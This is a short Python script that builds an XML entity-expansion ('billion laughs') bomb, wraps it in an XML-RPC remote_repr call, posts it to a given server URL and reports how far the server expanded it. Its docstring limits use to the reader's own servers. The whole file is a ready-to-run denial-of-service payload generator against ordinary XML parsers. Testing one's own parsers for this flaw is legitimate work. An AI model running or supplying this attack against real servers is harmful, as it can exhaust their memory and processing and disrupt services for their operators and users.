#!/usr/bin/env python3
"""A small XML-RPC call that becomes a large one inside the server. Only for servers of your own.

    python3 xml_bomb.py 5 http://www.example.com:7001/RPC2

Each level of the bomb is ten times the one before it.
"""

import argparse
import sys
from contextlib import suppress
from xmlrpc.client import Fault, loads

import httpx2


def bomb(levels: int) -> str:
    """A call of remote_repr with a text of 10 to the power of *levels* characters."""
    entities = ['<!ENTITY e0 "x">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1)]
    call = "<methodCall><methodName>remote_repr</methodName><params><param>"
    call += f"<value>&e{levels};</value></param></params></methodCall>"
    return f"<!DOCTYPE bomb [{''.join(entities)}]>{call}"


def main(levels: int, url: str) -> None:
    text = bomb(levels)
    answer = httpx2.post(url, content=text, headers={"Content-Type": "text/xml"}, timeout=30)
    (value,), _ = loads(answer.text)
    print(f"sent {len(text):,} characters; the server made {len(str(value)) - 2:,} of them")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="See how an XML parser treats entities.")
    parser.add_argument("levels", type=int, choices=range(10), help="10 to this power characters")
    parser.add_argument("url", help="http://HOST:7001/RPC2")
    args = parser.parse_args()
    with suppress(KeyboardInterrupt):
        try:
            main(args.levels, args.url)
        except Fault as fault:
            sys.exit(f"The server refused: {fault.faultString}")
        except httpx2.HTTPError as error:
            sys.exit(f"{args.url}: {error}")
